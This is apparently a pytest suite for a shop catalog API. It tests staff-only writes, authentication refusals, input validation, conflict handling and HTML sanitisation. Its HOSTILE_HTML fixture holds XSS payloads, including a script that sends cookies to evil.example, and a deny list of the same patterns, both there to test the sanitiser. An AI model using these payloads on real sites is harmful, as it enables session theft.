"""Staff writes to the catalog: categories, products and variants behind the staff key,
with the refusals a shop owner or an attacker would run into."""

from __future__ import annotations

import asyncio
import re
import uuid
from typing import Any

from conftest import SignIn
from factories import (
    API,
    Client,
    Json,
    all_products,
    assert_problem,
    create_category,
    create_product,
    product_body,
    variant_body,
)

SLUG = re.compile(r"^[a-z0-9]+(?:-[a-z0-9]+)*$")


async def _state(client: Client, admin_headers: dict[str, str]) -> Json:
    """Everything a staff member can read about the catalog."""
    categories = (await client.get(f"{API}/categories")).json()
    products = await all_products(client, admin_headers)
    return {"categories": categories, "products": products}


async def _shop(client: Client, admin_headers: dict[str, str]) -> tuple[Json, Json]:
    """A category with one product of one variant."""
    category = await create_category(client, admin_headers, "Kitchen")
    product = await create_product(client, admin_headers, category["id"], title="Copper Pan")
    return category, product


# --- the happy paths ------------------------------------------------------------------------


async def test_staff_create_change_and_delete_a_category(
    client: Client, admin_headers: dict[str, str]
) -> None:
    """A category goes through its whole life: created (201), listed, changed, deleted."""
    response = await client.post(
        f"{API}/categories",
        json={"name": "Garden Tools", "description": "For the garden"},
        headers=admin_headers,
    )
    assert response.status_code == 201, response.text
    created = response.json()
    assert created["name"] == "Garden Tools"
    assert created["slug"] == "garden-tools"
    assert created["parent_id"] is None
    assert created["description"] == "For the garden"
    assert uuid.UUID(created["id"])
    assert (await client.get(f"{API}/categories")).json() == [created]

    response = await client.patch(
        f"{API}/categories/{created['id']}",
        json={"name": "Garden", "slug": "garden", "description": ""},
        headers=admin_headers,
    )
    assert response.status_code == 200, response.text
    changed = response.json()
    assert (changed["id"], changed["name"], changed["slug"], changed["description"]) == (
        created["id"],
        "Garden",
        "garden",
        "",
    )
    assert (await client.get(f"{API}/categories")).json() == [changed]

    response = await client.delete(f"{API}/categories/{created['id']}", headers=admin_headers)
    assert response.status_code == 204
    assert (await client.get(f"{API}/categories")).json() == []
    response = await client.delete(f"{API}/categories/{created['id']}", headers=admin_headers)
    assert_problem(response, 404, "category_not_found")
    response = await client.patch(
        f"{API}/categories/{uuid.uuid4()}", json={"name": "X"}, headers=admin_headers
    )
    assert_problem(response, 404, "category_not_found")


async def test_staff_create_change_and_delete_a_product(
    client: Client, admin_headers: dict[str, str]
) -> None:
    """A product is created with its variants (201), read back by id and slug, changed
    field by field, and deleted (204) with its variants."""
    category = await create_category(client, admin_headers, "Tea")
    body = product_body(
        category["id"],
        title="Sencha Green Tea",
        description="<p>Steamed <em>green</em> tea.</p>",
        brand="Kyoto Leaf",
        tags=["Green Tea", "japan", "green tea"],
        images=[{"url": "https://img.example.com/sencha.jpg", "alt": "A tin of sencha"}],
        variants=[
            variant_body("TEA-SEN-100", price=1250, stock=40, options={"size": "100 g"}),
            variant_body(
                "TEA-SEN-250", price=2800, stock=0, options={"size": "250 g"}, compare_at_price=3200
            ),
        ],
    )
    response = await client.post(f"{API}/products", json=body, headers=admin_headers)
    assert response.status_code == 201, response.text
    product = response.json()
    assert product["title"] == "Sencha Green Tea"
    assert product["slug"] == "sencha-green-tea"
    assert product["brand"] == "Kyoto Leaf"
    assert product["category_id"] == category["id"]
    assert product["published"] is True
    assert product["price_min"] == 1250
    assert product["currency"] == "USD"
    assert (product["rating_average"], product["review_count"]) == (0, 0)
    assert [(i["url"], i["alt"], i["position"]) for i in product["images"]] == [
        ("https://img.example.com/sencha.jpg", "A tin of sencha", 1)
    ]
    assert [
        (v["sku"], v["price"], v["stock"], v["options"], v["compare_at_price"], v["currency"])
        for v in product["variants"]
    ] == [
        ("TEA-SEN-100", 1250, 40, {"size": "100 g"}, None, "USD"),
        ("TEA-SEN-250", 2800, 0, {"size": "250 g"}, 3200, "USD"),
    ]
    assert (await client.get(f"{API}/products/{product['id']}")).json() == product
    assert (await client.get(f"{API}/products/sencha-green-tea")).json() == product
    tagged = await all_products(client, tag="green tea")
    assert [p["id"] for p in tagged] == [product["id"]]

    response = await client.patch(
        f"{API}/products/{product['id']}",
        json={"title": "Gyokuro Green Tea", "brand": None, "tags": ["shade grown"]},
        headers=admin_headers,
    )
    assert response.status_code == 200, response.text
    changed = response.json()
    assert changed["title"] == "Gyokuro Green Tea"
    assert changed["brand"] is None
    assert changed["tags"] == ["shade grown"]
    assert changed["variants"] == product["variants"]
    assert changed["updated_at"] >= product["updated_at"]
    assert (await client.get(f"{API}/products/{product['id']}")).json() == changed
    assert [p["id"] for p in await all_products(client, q="gyokuro")] == [product["id"]]
    assert await all_products(client, q="sencha") == []
    assert await all_products(client, tag="green tea") == []
    assert [p["id"] for p in await all_products(client, tag="shade grown")] == [product["id"]]
    assert [p["id"] for p in await all_products(client, q="shade")] == [product["id"]]
    assert await all_products(client, q="kyoto") == []

    response = await client.delete(f"{API}/products/{product['id']}", headers=admin_headers)
    assert response.status_code == 204
    assert_problem(await client.get(f"{API}/products/{product['id']}"), 404, "product_not_found")
    assert await all_products(client, admin_headers) == []
    assert await all_products(client, admin_headers, q="gyokuro") == []
    assert await all_products(client, admin_headers, tag="shade grown") == []
    for variant in product["variants"]:
        response = await client.patch(
            f"{API}/variants/{variant['id']}", json={"price": 1}, headers=admin_headers
        )
        assert_problem(response, 404, "variant_not_found")
    response = await client.delete(f"{API}/products/{product['id']}", headers=admin_headers)
    assert_problem(response, 404, "product_not_found")


async def test_price_min_follows_the_cheapest_variant(
    client: Client, admin_headers: dict[str, str]
) -> None:
    """Adding, repricing and removing variants keeps the product's price (and the price
    filter and sort) on its cheapest variant; the last variant cannot be removed."""
    category, product = await _shop(client, admin_headers)
    other = await create_product(
        client, admin_headers, category["id"], variants=[variant_body(price=4000)]
    )
    first = product["variants"][0]
    assert product["price_min"] == first["price"] == 1999

    async def price_min() -> int:
        shown = (await client.get(f"{API}/products/{product['id']}")).json()
        price: int = shown["price_min"]
        return price

    response = await client.post(
        f"{API}/products/{product['id']}/variants",
        json=variant_body("PAN-XL", price=999, stock=2, options={"size": "XL"}),
        headers=admin_headers,
    )
    assert response.status_code == 201, response.text
    added = response.json()
    assert (added["sku"], added["price"], added["currency"]) == ("PAN-XL", 999, "USD")
    assert await price_min() == 999
    assert [p["id"] for p in await all_products(client, max_price=999)] == [product["id"]]
    assert [p["id"] for p in await all_products(client, sort="price")] == [
        product["id"],
        other["id"],
    ]

    response = await client.patch(
        f"{API}/variants/{added['id']}", json={"price": 5000}, headers=admin_headers
    )
    assert response.status_code == 200, response.text
    assert response.json()["price"] == 5000
    assert await price_min() == 1999
    assert [p["id"] for p in await all_products(client, sort="-price")] == [
        other["id"],
        product["id"],
    ]

    response = await client.delete(f"{API}/variants/{first['id']}", headers=admin_headers)
    assert response.status_code == 204
    assert await price_min() == 5000
    shown = (await client.get(f"{API}/products/{product['id']}")).json()
    assert [v["sku"] for v in shown["variants"]] == ["PAN-XL"]
    assert [p["id"] for p in await all_products(client, min_price=4500)] == [product["id"]]

    response = await client.delete(f"{API}/variants/{added['id']}", headers=admin_headers)
    assert_problem(response, 409, "last_variant")
    shown = (await client.get(f"{API}/products/{product['id']}")).json()
    assert [v["id"] for v in shown["variants"]] == [added["id"]]
    assert shown["price_min"] == 5000

    response = await client.post(
        f"{API}/products/{uuid.uuid4()}/variants", json=variant_body(), headers=admin_headers
    )
    assert_problem(response, 404, "product_not_found")
    response = await client.delete(f"{API}/variants/{uuid.uuid4()}", headers=admin_headers)
    assert_problem(response, 404, "variant_not_found")


# --- who may write --------------------------------------------------------------------------


def _attempts(category: Json, product: Json) -> list[tuple[str, str, Any]]:
    """Every catalog write, aimed at existing objects."""
    variant = product["variants"][0]
    return [
        ("POST", "/categories", {"name": "Intruders"}),
        ("PATCH", f"/categories/{category['id']}", {"name": "Hacked"}),
        ("DELETE", f"/categories/{category['id']}", None),
        ("POST", "/products", product_body(category["id"], title="Injected")),
        ("PATCH", f"/products/{product['id']}", {"title": "Hacked", "published": False}),
        ("DELETE", f"/products/{product['id']}", None),
        ("POST", f"/products/{product['id']}/variants", variant_body("EVIL-1")),
        ("PATCH", f"/variants/{variant['id']}", {"price": 1}),
        ("DELETE", f"/variants/{variant['id']}", None),
    ]


async def test_writes_without_staff_credentials_are_refused(
    client: Client, admin_headers: dict[str, str], sign_in: SignIn
) -> None:
    """Anonymous callers and bad tokens get 401, customers 403, on every write, and nothing
    changes."""
    token = admin_headers["Authorization"].removeprefix("Bearer ")
    customer = await sign_in(roles=["customer"])
    credentials: dict[str, tuple[dict[str, str], int]] = {
        "none": ({}, 401),
        "garbage": ({"Authorization": "Bearer not-a-token"}, 401),
        "empty": ({"Authorization": "Bearer "}, 401),
        "basic": ({"Authorization": f"Basic {token}"}, 401),
        "truncated": ({"Authorization": f"Bearer {token[:-4]}"}, 401),
        "old api key header": ({"X-API-Key": token}, 401),
        "customer": (customer, 403),
    }
    category, product = await _shop(client, admin_headers)
    await create_product(client, admin_headers, category["id"], variants=[variant_body()])
    before = await _state(client, admin_headers)
    for kind, (headers, status) in credentials.items():
        for method, path, body in _attempts(category, product):
            response = await client.request(method, f"{API}{path}", json=body, headers=headers)
            assert response.status_code == status, (kind, method, path, response.text)
            assert response.headers["content-type"].startswith("application/problem+json")
    assert await _state(client, admin_headers) == before


async def test_tokens_in_the_url_are_not_accepted(
    client: Client, admin_headers: dict[str, str]
) -> None:
    """A token in the query string (where logs and browser history keep it) does not count:
    the request is refused outright (400 ``credentials_in_url``) and changes nothing."""
    token = admin_headers["Authorization"].removeprefix("Bearer ")
    category, product = await _shop(client, admin_headers)
    before = await _state(client, admin_headers)
    for method, path, body in _attempts(category, product):
        for name in ("access_token", "token", "api_key"):
            response = await client.request(method, f"{API}{path}", params={name: token}, json=body)
            assert_problem(response, 400, "credentials_in_url")
    assert await _state(client, admin_headers) == before


# --- what the server refuses ----------------------------------------------------------------

UNKNOWN_PRODUCT_FIELDS: list[Json] = [
    {"rating_average": 5.0},
    {"review_count": 1000},
    {"id": "7f1c1e5e-54a5-4b8d-9a32-0b3c5e1f0a11"},
    {"price_min": 1},
    {"currency": "EUR"},
    {"created_at": "2020-01-01T00:00:00Z"},
    {"owner": "attacker"},
]


async def test_unknown_product_fields_are_refused(
    client: Client, admin_headers: dict[str, str]
) -> None:
    """A field the API does not offer (mass assignment: ratings, ids, prices, currency...)
    is a 422 naming the problem, and nothing is created or changed."""
    category, product = await _shop(client, admin_headers)
    before = await _state(client, admin_headers)
    for extra in UNKNOWN_PRODUCT_FIELDS:
        body = {**product_body(category["id"], title="Mass Assigned"), **extra}
        response = await client.post(f"{API}/products", json=body, headers=admin_headers)
        assert response.status_code == 422, (extra, response.text)
        assert assert_problem(response, 422, "validation_error")["errors"], extra
        response = await client.patch(
            f"{API}/products/{product['id']}",
            json={"title": "Changed", **extra},
            headers=admin_headers,
        )
        assert response.status_code == 422, (extra, response.text)
        assert_problem(response, 422, "validation_error")
    assert await _state(client, admin_headers) == before


async def test_unknown_fields_elsewhere_are_refused(
    client: Client, admin_headers: dict[str, str]
) -> None:
    """Categories and variants refuse unknown fields too (a variant's stock changes only
    through stock adjustments, its currency never), and nothing changes."""
    category, product = await _shop(client, admin_headers)
    variant_path = f"/variants/{product['variants'][0]['id']}"
    variants_path = f"/products/{product['id']}/variants"
    attempts: list[tuple[str, str, Json]] = [
        ("POST", "/categories", {"name": "X", "id": str(uuid.uuid4())}),
        ("PATCH", f"/categories/{category['id']}", {"created_at": "2020-01-01T00:00:00Z"}),
        ("POST", variants_path, {**variant_body(), "currency": "EUR"}),
        ("POST", variants_path, {**variant_body(), "id": str(uuid.uuid4())}),
        ("PATCH", variant_path, {"stock": 100000}),
        ("PATCH", variant_path, {"currency": "EUR"}),
        (
            "POST",
            "/products",
            product_body(category["id"], variants=[{**variant_body(), "product_id": "x"}]),
        ),
    ]
    before = await _state(client, admin_headers)
    for method, path, body in attempts:
        response = await client.request(method, f"{API}{path}", json=body, headers=admin_headers)
        assert response.status_code == 422, (method, path, body, response.text)
        assert_problem(response, 422, "validation_error")
    assert await _state(client, admin_headers) == before


BAD_VARIANTS: list[Json] = [
    {"price": 19.99},
    {"price": "19.99"},
    {"price": -1},
    {"price": None},
    {"stock": -5},
    {"stock": 1.5},
    {"price": 10**12},
    {"compare_at_price": -100},
    {"sku": " leading space"},
    {"sku": "trailing space "},
    {"sku": "tab\tinside"},
    {"sku": ""},
    {"price": 900, "compare_at_price": 800},
    {"compare_at_price": 1},
    {"title": ""},
]


async def test_bad_money_and_variant_values_are_refused(
    client: Client, admin_headers: dict[str, str]
) -> None:
    """Money is an integer of cents (no floats, no decimal strings, not negative, not
    absurd); bad variants are a 422, on create and on change, and nothing changes."""
    category, product = await _shop(client, admin_headers)
    variant = product["variants"][0]
    before = await _state(client, admin_headers)
    for bad in BAD_VARIANTS:
        body = product_body(category["id"], variants=[{**variant_body(), **bad}])
        response = await client.post(f"{API}/products", json=body, headers=admin_headers)
        assert response.status_code == 422, (bad, response.text)
        assert_problem(response, 422, "validation_error")
        response = await client.post(
            f"{API}/products/{product['id']}/variants",
            json={**variant_body(), **bad},
            headers=admin_headers,
        )
        assert response.status_code == 422, (bad, response.text)
        if "stock" not in bad:
            response = await client.patch(
                f"{API}/variants/{variant['id']}", json=bad, headers=admin_headers
            )
            assert response.status_code == 422, (bad, response.text)
    assert await _state(client, admin_headers) == before


INVALID_PRODUCTS: list[Json] = [
    {"title": ""},
    {"title": "x" * 256},
    {"variants": []},
    {"slug": "Not A Slug"},
    {"images": [{"url": "javascript:alert(1)"}]},
    {"category_id": "not-a-uuid"},
    {"tags": "not-a-list"},
    {"published": "yes please"},
    {"title": "Nul\u0000byte"},
    {"description": "bad\u0000description"},
    {"variants": [{**variant_body(), "options": {"size": "L\u0000"}}]},
]


async def test_invalid_products_are_refused(client: Client, admin_headers: dict[str, str]) -> None:
    """Invalid product bodies (including NUL characters, which no database text column can
    hold) are a 422 problem, never a 500, and nothing is created."""
    category = await create_category(client, admin_headers)
    before = await _state(client, admin_headers)
    for fields in INVALID_PRODUCTS:
        body = {**product_body(category["id"]), **fields}
        response = await client.post(f"{API}/products", json=body, headers=admin_headers)
        assert response.status_code == 422, (fields, response.text)
        assert_problem(response, 422, "validation_error")
    assert await _state(client, admin_headers) == before


async def test_product_in_an_unknown_category_is_refused(
    client: Client, admin_headers: dict[str, str]
) -> None:
    """A category_id that does not exist is refused (4xx problem) and nothing is created."""
    await create_category(client, admin_headers)
    before = await _state(client, admin_headers)
    body = product_body(str(uuid.uuid4()))
    response = await client.post(f"{API}/products", json=body, headers=admin_headers)
    assert response.status_code in (404, 422), response.text
    assert_problem(response, response.status_code)
    assert await _state(client, admin_headers) == before


NON_JSON_BODIES: list[tuple[str | None, bytes]] = [
    ("text/plain", b'{"name": "Sneaky"}'),
    ("application/x-www-form-urlencoded", b"name=Sneaky"),
    (
        "multipart/form-data; boundary=xyz",
        b'--xyz\r\nContent-Disposition: form-data; name="name"\r\n\r\nSneaky\r\n--xyz--\r\n',
    ),
    ("application/xml", b"<category><name>Sneaky</name></category>"),
    ("text/json", b'{"name": "Sneaky"}'),
    (None, b'{"name": "Sneaky"}'),
]


async def test_non_json_bodies_are_refused(client: Client, admin_headers: dict[str, str]) -> None:
    """A body that is not declared as JSON is a 415 problem, whatever it holds; nothing
    is created or changed."""
    category, product = await _shop(client, admin_headers)
    before = await _state(client, admin_headers)
    for content_type, content in NON_JSON_BODIES:
        headers = dict(admin_headers)
        if content_type:
            headers["Content-Type"] = content_type
        for method, path in [
            ("POST", "/categories"),
            ("PATCH", f"/categories/{category['id']}"),
            ("POST", "/products"),
            ("PATCH", f"/products/{product['id']}"),
            ("POST", f"/products/{product['id']}/variants"),
        ]:
            response = await client.request(
                method, f"{API}{path}", content=content, headers=headers
            )
            assert response.status_code == 415, (content_type, method, path, response.text)
            assert_problem(response, 415, "unsupported_media_type")
    assert await _state(client, admin_headers) == before


MALFORMED_JSON = [b"{", b'{"name": }', b'{"name": "x",}', b"\xff\xfe{}", b"{'name': 'x'}", b"NaN"]


async def test_malformed_json_is_a_400(client: Client, admin_headers: dict[str, str]) -> None:
    """A body that is not JSON at all is a 400 problem, and nothing is created."""
    _, product = await _shop(client, admin_headers)
    before = await _state(client, admin_headers)
    headers = {**admin_headers, "Content-Type": "application/json"}
    for content in MALFORMED_JSON:
        for method, path in [
            ("POST", "/categories"),
            ("POST", "/products"),
            ("PATCH", f"/products/{product['id']}"),
        ]:
            response = await client.request(
                method, f"{API}{path}", content=content, headers=headers
            )
            assert response.status_code == 400, (content, method, path, response.text)
            assert_problem(response, 400)
    assert await _state(client, admin_headers) == before


async def test_json_of_the_wrong_shape_is_a_422(
    client: Client, admin_headers: dict[str, str]
) -> None:
    """Well-formed JSON that is not an object of the expected fields is a 422."""
    headers = {**admin_headers, "Content-Type": "application/json"}
    for content in [b"[]", b'"a category"', b"42", b"null", b"{}"]:
        response = await client.post(f"{API}/categories", content=content, headers=headers)
        assert response.status_code == 422, (content, response.text)
        assert_problem(response, 422, "validation_error")
    assert (await client.get(f"{API}/categories")).json() == []


async def test_duplicate_skus_conflict(client: Client, admin_headers: dict[str, str]) -> None:
    """A SKU belongs to one variant: reusing it anywhere is a 409 sku_taken and nothing
    changes."""
    category, product = await _shop(client, admin_headers)
    other = await create_product(
        client, admin_headers, category["id"], variants=[variant_body("OTHER-1")]
    )
    taken = product["variants"][0]["sku"]
    before = await _state(client, admin_headers)
    attempts: list[tuple[str, str, Json]] = [
        ("POST", "/products", product_body(category["id"], variants=[variant_body(taken)])),
        (
            "POST",
            "/products",
            product_body(category["id"], variants=[variant_body("TWICE"), variant_body("TWICE")]),
        ),
        ("POST", f"/products/{other['id']}/variants", variant_body(taken)),
        ("POST", f"/products/{product['id']}/variants", variant_body(taken)),
        ("PATCH", f"/variants/{other['variants'][0]['id']}", {"sku": taken}),
    ]
    for method, path, body in attempts:
        response = await client.request(method, f"{API}{path}", json=body, headers=admin_headers)
        assert_problem(response, 409, "sku_taken")
    assert await _state(client, admin_headers) == before
    response = await client.patch(
        f"{API}/variants/{product['variants'][0]['id']}", json={"sku": taken}, headers=admin_headers
    )
    assert response.status_code == 200, "keeping one's own SKU is not a conflict"


async def test_concurrent_duplicates_conflict_cleanly(
    client: Client, admin_headers: dict[str, str]
) -> None:
    """Several staff tools creating the same SKU or slug at once: one wins (201), the others
    get 409 with the right code, nobody gets a 500; automatic slugs stay unique."""
    category = await create_category(client, admin_headers)

    async def post_all(bodies: list[Json]) -> list[Any]:
        return list(
            await asyncio.gather(
                *(client.post(f"{API}/products", json=b, headers=admin_headers) for b in bodies)
            )
        )

    for bodies, code in [
        (
            [product_body(category["id"], variants=[variant_body("RACE-1")]) for _ in range(6)],
            "sku_taken",
        ),
        ([product_body(category["id"], slug="race-slug") for _ in range(6)], "slug_taken"),
    ]:
        responses = await post_all(bodies)
        statuses = sorted(r.status_code for r in responses)
        assert statuses == [201, 409, 409, 409, 409, 409], [r.text for r in responses]
        for response in responses:
            if response.status_code == 409:
                assert_problem(response, 409, code)
    same_title = await post_all(
        [product_body(category["id"], title="Race Title") for _ in range(6)]
    )
    assert all(r.status_code == 201 for r in same_title), [r.text for r in same_title]
    slugs = [r.json()["slug"] for r in same_title]
    assert len(set(slugs)) == 6
    assert len(await all_products(client, admin_headers)) == 8


async def test_duplicate_slugs_conflict(client: Client, admin_headers: dict[str, str]) -> None:
    """An explicit slug already in use is a 409 slug_taken; the same title twice simply gets
    two different slugs."""
    category, product = await _shop(client, admin_headers)
    second = await create_category(client, admin_headers, "Second")
    before = await _state(client, admin_headers)
    attempts: list[tuple[str, str, Json]] = [
        ("POST", "/products", product_body(category["id"], slug=product["slug"])),
        ("POST", "/categories", {"name": "Another", "slug": category["slug"]}),
        ("PATCH", f"/categories/{second['id']}", {"slug": category["slug"]}),
    ]
    for method, path, body in attempts:
        response = await client.request(method, f"{API}{path}", json=body, headers=admin_headers)
        assert_problem(response, 409, "slug_taken")
    assert await _state(client, admin_headers) == before

    twin = await create_product(client, admin_headers, category["id"], title=product["title"])
    assert twin["slug"] != product["slug"]
    assert SLUG.match(twin["slug"])
    response = await client.patch(
        f"{API}/products/{twin['id']}", json={"slug": product["slug"]}, headers=admin_headers
    )
    assert_problem(response, 409, "slug_taken")
    assert (await client.get(f"{API}/products/{product['slug']}")).json()["id"] == product["id"]
    assert (await client.get(f"{API}/products/{twin['slug']}")).json()["id"] == twin["id"]
    same_name = await create_category(client, admin_headers, category["name"])
    assert same_name["slug"] != category["slug"]


async def test_category_in_use_cannot_be_deleted(
    client: Client, admin_headers: dict[str, str]
) -> None:
    """A category with products or sub-categories answers 409 category_in_use and stays;
    once empty it can go."""
    category, product = await _shop(client, admin_headers)
    parent = await create_category(client, admin_headers, "Parent")
    child = await create_category(client, admin_headers, "Child", parent_id=parent["id"])
    for target in (category, parent):
        response = await client.delete(f"{API}/categories/{target['id']}", headers=admin_headers)
        assert_problem(response, 409, "category_in_use")
    slugs = {c["slug"] for c in (await client.get(f"{API}/categories")).json()}
    assert {category["slug"], parent["slug"], child["slug"]} <= slugs

    await client.delete(f"{API}/products/{product['id']}", headers=admin_headers)
    await client.delete(f"{API}/categories/{child['id']}", headers=admin_headers)
    for target in (category, parent):
        response = await client.delete(f"{API}/categories/{target['id']}", headers=admin_headers)
        assert response.status_code == 204
    assert (await client.get(f"{API}/categories")).json() == []


async def test_category_cannot_become_its_own_ancestor(
    client: Client, admin_headers: dict[str, str]
) -> None:
    """A parent_id that would make the tree a cycle, or that does not exist, is refused
    (422) and nothing moves."""
    root = await create_category(client, admin_headers, "Root")
    child = await create_category(client, admin_headers, "Child", parent_id=root["id"])
    grandchild = await create_category(client, admin_headers, "Grandchild", parent_id=child["id"])
    for category, parent_id in [
        (root, grandchild["id"]),
        (root, child["id"]),
        (child, child["id"]),
        (child, str(uuid.uuid4())),
    ]:
        response = await client.patch(
            f"{API}/categories/{category['id']}",
            json={"parent_id": parent_id},
            headers=admin_headers,
        )
        assert_problem(response, 422, "invalid_parent")
    orphan = {"name": "Orphan", "parent_id": str(uuid.uuid4())}
    response = await client.post(f"{API}/categories", json=orphan, headers=admin_headers)
    assert_problem(response, 422, "invalid_parent")
    listed = {c["id"]: c for c in (await client.get(f"{API}/categories")).json()}
    assert len(listed) == 3
    assert listed[root["id"]]["parent_id"] is None
    assert listed[child["id"]]["parent_id"] == root["id"]
    assert listed[grandchild["id"]]["parent_id"] == child["id"]


# --- visibility -----------------------------------------------------------------------------


async def test_unpublished_products_are_invisible_to_the_public(
    client: Client, admin_headers: dict[str, str]
) -> None:
    """An unpublished product answers 404 exactly like a missing one, and is absent from
    every list and search, for anyone without the staff key; staff see it everywhere."""
    category, shown = await _shop(client, admin_headers)
    hidden = await create_product(
        client,
        admin_headers,
        category["id"],
        title="Zanzibar Draft Teapot",
        tags=["teapots"],
        brand="Draftline",
        published=False,
    )
    assert hidden["published"] is False

    async def visible_to(headers: dict[str, str]) -> dict[str, bool]:
        ids = {
            "list": await all_products(client, headers),
            "category": await all_products(client, headers, category=category["slug"]),
            "search": await all_products(client, headers, q="zanzibar"),
            "tag": await all_products(client, headers, tag="teapots"),
            "brand": await all_products(client, headers, brand="Draftline"),
            "price": await all_products(client, headers, min_price=0, sort="price"),
        }
        seen = {name: hidden["id"] in {p["id"] for p in items} for name, items in ids.items()}
        for key in (hidden["id"], hidden["slug"]):
            seen[f"get {key}"] = (
                await client.get(f"{API}/products/{key}", headers=headers)
            ).status_code == 200
            seen[f"reviews {key}"] = (
                await client.get(f"{API}/products/{key}/reviews", headers=headers)
            ).status_code == 200
        return seen

    assert not any((await visible_to({})).values())
    assert not any((await visible_to({"X-API-Key": "wrong"})).values())
    assert all((await visible_to(admin_headers)).values())

    missing = await client.get(f"{API}/products/no-such-teapot")
    for key in (hidden["id"], hidden["slug"]):
        response = await client.get(f"{API}/products/{key}")
        assert_problem(response, 404, "product_not_found")
        assert response.json() == missing.json()
    shown_ids = [p["id"] for p in await all_products(client)]
    assert shown_ids == [shown["id"]]

    response = await client.patch(
        f"{API}/products/{hidden['id']}", json={"published": True}, headers=admin_headers
    )
    assert response.status_code == 200
    assert all((await visible_to({})).values())

    response = await client.patch(
        f"{API}/products/{hidden['id']}", json={"published": False}, headers=admin_headers
    )
    assert response.status_code == 200
    assert not any((await visible_to({})).values())


# --- content --------------------------------------------------------------------------------

HOSTILE_HTML = (
    '<p onclick="steal()">Hand-made <strong>copper</strong> pan, <em>lined</em> with tin.</p>'
    "<script>document.location='https://evil.example/?c='+document.cookie; scriptword</script>"
    '<a href="javascript:alert(1)">click</a> <a href="https://maker.example/pan">maker</a>'
    '<img src="x" onerror="alert(2)"><iframe src="https://evil.example"></iframe>'
    '<ul><li style="background:url(javascript:alert(3))">oven safe</li></ul>'
    '<svg onload="alert(4)"></svg><form action="https://evil.example"><input name="card"></form>'
)


def _assert_safe(description: str) -> None:
    lowered = description.lower()
    for forbidden in (
        "<script",
        "onclick",
        "onerror",
        "onload",
        "javascript:",
        "<iframe",
        "<img",
        "<svg",
        "<form",
        "<input",
        "style=",
        "document.cookie",
    ):
        assert forbidden not in lowered, (forbidden, description)
    for kept in (
        "<p>",
        "<strong>copper</strong>",
        "<em>lined</em>",
        "<ul>",
        "<li>oven safe</li>",
        'href="https://maker.example/pan"',
        "maker</a>",
    ):
        assert kept in description, (kept, description)


async def test_html_descriptions_are_sanitised(
    client: Client, admin_headers: dict[str, str]
) -> None:
    """Scripts, event handlers, javascript: URLs and embeds are removed from descriptions
    on create and on change; formatting and safe links are kept; hidden script text is not
    searchable."""
    category = await create_category(client, admin_headers)
    product = await create_product(
        client, admin_headers, category["id"], title="Copper Pan", description=HOSTILE_HTML
    )
    _assert_safe(product["description"])
    _assert_safe((await client.get(f"{API}/products/{product['id']}")).json()["description"])
    listed = await all_products(client)
    _assert_safe(listed[0]["description"])
    assert await all_products(client, q="scriptword") == []
    assert [p["id"] for p in await all_products(client, q="tin")] == [product["id"]]

    plain = await create_product(client, admin_headers, category["id"], description="plain")
    response = await client.patch(
        f"{API}/products/{plain['id']}", json={"description": HOSTILE_HTML}, headers=admin_headers
    )
    assert response.status_code == 200
    _assert_safe(response.json()["description"])
    _assert_safe((await client.get(f"{API}/products/{plain['id']}")).json()["description"])


UNICODE_TITLES = [
    ("Crème Brûlée Tørt", "creme-brulee"),
    ("Ærøskøbing Sild i Glas", "aeroskobing"),
    ("Ωmega 3 κάψουλες", ""),
    ("日本茶 Sencha", ""),
    ("Straße & Söhne — 100 % Wolle", "strasse"),
    ("🍰", ""),
]


async def test_unicode_titles_round_trip_with_ascii_slugs(
    client: Client, admin_headers: dict[str, str]
) -> None:
    """Titles and category names keep every character; slugs are lower-case ASCII words
    usable in a URL, and the product answers at its slug."""
    for title, slug_start in UNICODE_TITLES:
        category = await create_category(client, admin_headers, f"Épicerie fine {title}")
        assert category["name"] == f"Épicerie fine {title}"
        assert SLUG.match(category["slug"]), category["slug"]
        assert category["slug"].startswith("epicerie-fine")
        product = await create_product(client, admin_headers, category["id"], title=title)
        assert product["title"] == title
        assert SLUG.match(product["slug"]), (title, product["slug"])
        assert product["slug"].startswith(slug_start), (title, product["slug"])
        shown = (await client.get(f"{API}/products/{product['slug']}")).json()
        assert shown["id"] == product["id"]
        assert shown["title"] == title
    listed = await all_products(client, sort="title")
    assert sorted(p["title"] for p in listed) == sorted(t for t, _ in UNICODE_TITLES)
    slugs = [p["slug"] for p in listed]
    assert len(set(slugs)) == len(slugs)
